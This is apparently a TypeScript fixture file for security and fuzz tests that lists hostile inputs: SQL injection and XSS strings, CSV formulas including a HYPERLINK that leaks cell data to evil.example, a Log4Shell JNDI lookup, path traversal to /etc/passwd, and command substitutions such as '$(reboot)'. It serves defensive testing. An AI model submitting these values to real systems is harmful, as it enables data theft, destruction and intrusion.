/**
 * Hostile values shared by the security tests: what an attacker (or a broken client) puts into
 * a field. None of them is a SKU, user or id that exists in a test stack.
 */
import fc from 'fast-check';

export const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE orders; --",
  '1; SELECT pg_sleep(5)--',
  '" OR ""="',
  "%' AND 1=0 UNION SELECT NULL, version()--",
  "admin'--",
  '$$; DELETE FROM products; $$',
];

export const HTML = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '<!--',
  ']]><![CDATA[',
];

/** Spreadsheet formulas (OWASP CSV injection). */
export const CSV_FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

export const INJECTION = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(reboot)',
  '`id`',
  '|| ls',
  'a\r\nX-Injected: 1',
];

export const UNICODE = [
  '\u202eRTL-override',
  'zero\u200bwidth',
  '\ufeffbom',
  '😀'.repeat(20),
  'lone\ud800surrogate',
  '\udfff',
  'e\u0301\u0301\u0301',
  '𝕏𝕐ℤ',
  'İıß',
  'next\u0085line',
  'line\u2028sep',
  '\u001b[31mred',
  'bell\u0007',
  'del\u007f',
  '\u0001\u0002\u0003',
];

export const PROTO = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];

export const ODD = [' ', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '0x1F', '[]', '{}', '.', '..', '/'];

export const HOSTILE_STRINGS: readonly string[] = [
  ...SQL,
  ...HTML,
  ...CSV_FORMULAS,
  ...INJECTION,
  ...UNICODE,
  ...PROTO,
  ...ODD,
];

/** Malformed UUIDs; `urn:uuid:` was accepted by ajv-formats and refused by PostgreSQL (a 500). */
export const BAD_UUIDS = [
  'not-a-uuid',
  '',
  ' ',
  '0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2',
  '0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2bb',
  '0b7e6b7c1d2e4f3a9c8b7a6d5e4f3a2b',
  '{0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b}',
  'urn:uuid:0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b',
  'URN:UUID:0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b',
  '0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2g',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  "0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b' OR '1'='1",
  ' 0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b',
  '0b7e6b7c-1d2e-4f3a-9c8b-7a6d5e4f3a2b\n',
  '00000000-0000-0000-0000-00000000000',
];

/** Dates and instants no endpoint should take (or that sit at the edge of every range). */
export const BAD_DATES = [
  '2026-02-30T10:00:00Z',
  '2026-13-01T10:00:00Z',
  '2026-02-11T25:00:00Z',
  '2026-02-11T10:60:00Z',
  '2026-02-11T23:59:60Z',
  '2026-02-11T10:00:00',
  '2026-02-11',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999999+18:00',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2026-02-11T10:00:00+25:00',
  '2026-02-11T10:00:00.1234567890Z',
  'yesterday',
  '1e12',
  '1739268000000',
];

/** Numbers at and beyond every edge (JSON can also say 1e400, which parses to Infinity). */
export const EDGE_NUMBERS = [
  -1,
  0,
  -0,
  0.001,
  0.005,
  1.5,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31) - 1,
  2 ** 53 + 1,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  1e21,
  1e308,
  -1e308,
  5e-324,
];

/** A hostile or random string. */
export function hostileString(maxLength = 300): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
      { weight: 2, arbitrary: fc.string({ maxLength: 40, unit: 'binary' }) },
      { weight: 1, arbitrary: fc.string({ maxLength: 40, unit: 'grapheme' }) },
      { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 20, unit: 'binary-ascii' }) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.constantFrom(...HOSTILE_STRINGS))
          .map(([a, b]) => a + b),
      },
    )
    .map((s) => s.slice(0, maxLength));
}

/** Header values: visible ASCII only (fetch refuses the rest; Node's parser refuses CR, LF, NUL). */
export function headerSafe(text: string): string {
  return text.replace(/[^\x20-\x7e]/g, '').trim();
}
